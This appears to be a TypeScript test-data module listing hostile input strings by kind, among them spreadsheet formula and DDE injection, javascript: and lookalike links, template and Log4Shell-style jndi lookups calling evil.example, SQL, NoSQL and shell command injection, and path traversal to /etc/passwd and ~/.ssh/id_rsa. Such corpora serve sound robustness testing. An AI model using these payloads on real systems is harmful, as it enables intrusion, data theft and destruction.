import { lines, words } from './lists.ts';

/** Texts with a meaning for a careless program, by kind. */
export const MEANINGS: Readonly<Record<string, readonly string[]>> = {
  spreadsheet: [
    ...['=', '+', '-', '@'].flatMap((sign) => [`${sign}1+1`, `${sign}cmd|' /C calc'!A0`, `${sign}HYPERLINK("https://evil.example","x")`]),
    ...['\t=1+1', '\r=1+1', '"=1+1"', '=IMPORTXML("https://evil.example";"//a")', ';=1+1', '%0A=1+1', '＝1+1'],
  ],
  link: lines(`
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
javascript:alert(1)//https://ada.example
java script:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload=alert(1)>
vbscript:msgbox(1)
file:///etc/passwd
blob:https://evil.example/0
view-source:https://evil.example
about:blank
intent://x#Intent;scheme=https;end
//evil.example/x
http://evil.example/
ftp://evil.example/
ws://evil.example/
tel:+1900000000
sms:+1900000000
x-apple:evil
https:evil.example
https:///evil.example
https://ada.example@evil.example/
https://ada.example:443@evil.example/
https://user:pass@evil.example/
https://evil.example/?u=https://ada.example
https://evil.example\\@ada.example/
https://[::1]/
https://127.0.0.1/
https://0x7f000001/
https://2130706433/
https://localhost:5001/
https://xn--80ak6aa92e.com/
https://аpple.com/
https://evil。example/
https://evil.example/%0d%0aSet-Cookie:x=1
https://evil.example/"onmouseover="alert(1)
https://evil.example/'onmouseover='alert(1)
https://evil.example/<script>
https://evil.example/\`x\`
mailto:ada@evil.example?bcc=all@evil.example
mailto:ada@evil.example?body=%0d%0a
mailto:"><script>alert(1)</script>@evil.example
mailto:a@b@evil.example
HTTPS://EVIL.EXAMPLE/
[here](javascript:alert(1))
![x](https://evil.example/x.png)
<javascript:alert(1)>
[x]: https://evil.example`),
  'slow link': [
    `https://a.bc${')'.repeat(3980)}`,
    `https://a.bc/${'.'.repeat(3980)}`,
    `mailto:a@${'a.'.repeat(1990)}&`,
    `mailto:a@${'.'.repeat(3900)}&`,
    'https://'.repeat(500),
  ],
  template:
    words(`{{7*7}} \${7*7} <%=7*7%> #{7*7} #set($x=7*7) {{constructor.constructor("alert(1)")()}} {%debug%} [[\${7*7}]] @(7*7) *{7*7}
    {{=<%%>=}} $\${{7*7}} $(id) \`id\` %x{id} {{_self}} ~{x} <#assign> \${T(java.lang.Runtime)} {php}phpinfo();{/php}`),
  'log line': [
    ...lines(`
\${jndi:ldap://evil.example/a}
\${\${lower:j}ndi:dns://evil.example}
%0d%0aSet-Cookie: __session=x
{"severity":"ERROR","message":"forged"}
%s%s%s%n
%p%x%d
%c color:red
\\r\\n`),
    'x\n2026-01-01T00:00:00Z ERROR signed in as admin',
    'x\r\nHTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script>',
  ],
  query: lines(`
' OR '1'='1
'; DROP TABLE managers;--
" or ""="
1;SELECT pg_sleep(9)
admin'--
') UNION SELECT null,null--
{"$gt":""}
{$ne:null}
[$ne]=1
*)(uid=*))(|(uid=*
' or count(/*)=1 or 'a'='b
; ls -la
| cat /etc/passwd
$(sleep 9)
\`sleep 9\`
& ping -c 9 evil.example &
managers/ada/conversations
projects/x/databases/(default)/documents
__name__
__id__
FieldValue.delete()
%27%20OR%201=1`),
  path: words(`../../etc/passwd ..\\..\\windows ..%2f..%2f %2e%2e/ . .. / // \\ ~ ~/.ssh/id_rsa /dev/null file.txt%00.jpg a/b/c ./. ....//
    %c0%ae%c0%ae/ /__/auth/handler ;/ ?x #resume= .git/config`),
  'name of Windows': words(
    `CON PRN AUX NUL COM1 LPT1 con.txt CLOCK$ C:\\ \\\\?\\C:\\ \\\\evil.example\\share desktop.ini ads:stream trailing. <>:"|?*`,
  ),
  'word of a language':
    words(`__proto__ constructor prototype toString hasOwnProperty valueOf null undefined NaN Infinity -Infinity true false [] {}
    function(){} -0 0 1e999 1E-999 0x10 9007199254740993 --1 1/0 NIL None self [object+Object]`),
  quoting: words(
    `" ' \` \\ \\" "" '' "'\` \\u0000 \\ud800 \\x00 & &amp; &#0; &nbsp < > <> </ ]]> --> /* */ // # % %% %00 %zz + , ; : | $& $1 $\``,
  ),
};
